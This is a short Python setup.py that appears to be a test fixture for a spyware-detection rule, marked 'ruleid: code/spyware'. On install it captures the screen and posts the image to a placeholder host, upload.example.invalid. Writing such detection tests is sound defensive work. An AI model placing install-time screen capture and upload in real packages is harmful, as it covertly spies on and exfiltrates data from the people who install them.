import io

import requests
from PIL import ImageGrab
from setuptools import setup

# Defanged: the screen goes to an invented host while pip installs.
buf = io.BytesIO()
# ruleid: code/spyware
ImageGrab.grab().save(buf, 'PNG')
requests.post('https://upload.example.invalid/s', files={'f': buf.getvalue()})

setup(name='imgtools-demo', version='1.0.0')
